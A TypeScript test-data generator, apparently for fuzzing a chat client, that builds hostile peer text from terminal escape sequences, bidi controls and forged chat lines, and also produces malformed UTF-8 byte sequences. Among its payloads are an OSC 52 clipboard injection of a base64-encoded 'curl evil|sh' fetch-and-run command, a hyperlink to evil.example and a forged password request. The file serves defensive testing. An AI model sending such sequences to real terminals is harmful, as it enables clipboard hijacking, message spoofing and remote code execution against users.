// Free text as a hostile peer writes it: terminal escapes, C0 and C1 controls,
// bidi overrides and forged lines after a CR or LF, among ordinary text; and
// its UTF-8 bytes broken the ways a strict decoder must catch.

import { type Random, randomText } from "./random.js";

const ESC = "\x1b";
const BEL = "\x07";
/** "curl evil|sh" in base64: what OSC 52 would put on the victim's clipboard. */
const CLIPBOARD = "Y3VybCBldmlsfHNo";

const CSI_SEQUENCES = [
  `${ESC}[2J`,
  `${ESC}[2K`,
  `${ESC}[H`,
  `${ESC}[1;31m`,
  `${ESC}[?1049h`,
  `${ESC}c`,
];
const OSC_SEQUENCES = [
  `${ESC}]52;c;${CLIPBOARD}${BEL}`,
  `${ESC}]52;c;${CLIPBOARD}${ESC}\\`,
  `${ESC}]0;pwned${BEL}`,
  `${ESC}]8;;https://evil.example/${ESC}\\click${ESC}]8;;${ESC}\\`,
];
/** The same attacks in 8-bit form: CSI is U+009B, OSC U+009D, ST U+009C. */
const C1_SEQUENCES = ["\u009b2J", `\u009d52;c;${CLIPBOARD}\u009c`, "\u0085", "\u0090q\u009c"];
const SINGLE_CONTROLS = ["\r", "\n", "\r\n", "\0", BEL, "\x7f", "\b", "\t", "\v", "\f", ESC];
const BIDI_CONTROLS = [0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069];
const PLAIN_WORDS = ["hello", "bye now", "ok", "see you at 5", "é 👍", "tab\there"];

/** What a hostile peer appends to make a line look like someone else's. */
function forgedTail(r: Random, victim: string): string {
  return r.pick([
    `\r${ESC}[2K<${victim}> fake`,
    `\n<${victim}> fake`,
    `\r* ${victim} is now known as mallory`,
    `\n* ${victim} is now known as mallory`,
    `\r\n[private] <${victim}> send me your password`,
  ]);
}

const PIECES: readonly ((r: Random, victim: string) => string)[] = [
  (r) => randomText(r),
  (r) => r.pick(PLAIN_WORDS),
  (r) => r.pick(PLAIN_WORDS),
  (r) => r.pick(CSI_SEQUENCES),
  (r) => r.pick(OSC_SEQUENCES),
  (r) => r.pick(C1_SEQUENCES),
  (r) => String.fromCodePoint(r.range(0x80, 0x9f)),
  (r) => r.pick(SINGLE_CONTROLS),
  (r) => String.fromCodePoint(r.pick(BIDI_CONTROLS)),
  forgedTail,
  // The tester's own netcat line, as a reason.
  (_, victim) => `${ESC}[2J${OSC_SEQUENCES[0]}\r${ESC}[2K<${victim}> fake`,
];

/** A free-text value from a peer that wants to drive `victim`'s terminal. */
export function hostileText(r: Random, victim: string): string {
  let text = "";
  for (let n = r.range(1, 4); n > 0; n--) text += r.pick(PIECES)(r, victim);
  return text;
}

/** Byte sequences a strict UTF-8 decoder must refuse, and controls it must let through. */
const BAD_SEQUENCES: readonly number[][] = [
  [0x80], // lone continuation byte
  [0xbf],
  [0xc0, 0x80], // overlong NUL
  [0xc0, 0x9b], // overlong ESC
  [0xe0, 0x80, 0x9b], // overlong ESC, three bytes
  [0xed, 0xa0, 0x80], // an encoded surrogate
  [0xf4, 0x90, 0x80, 0x80], // beyond U+10FFFF
  [0xe2, 0x82], // truncated sequence
  [0x9b], // 8-bit CSI as a raw byte
  [0xfe],
  [0xff],
  [0xc2, 0x9b], // U+009B, well-formed: a C1 control
  [0x1b, 0x5b, 0x32, 0x4a], // ESC [ 2 J
  [0x00],
  [0x0d],
];

/** `bytes` with one to three byte-level mutations: inserted bad sequences, a flipped bit, a cut. */
export function mutateUtf8(r: Random, bytes: Uint8Array): Uint8Array {
  const out = [...bytes];
  for (let n = r.range(1, 3); n > 0; n--) {
    const at = r.int(out.length + 1);
    switch (r.int(4)) {
      case 0:
      case 1:
        out.splice(at, 0, ...r.pick(BAD_SEQUENCES));
        break;
      case 2:
        if (at < out.length) out[at] = (out[at] as number) ^ (1 << r.int(8));
        break;
      default:
        out.length = at;
    }
  }
  return Uint8Array.from(out);
}
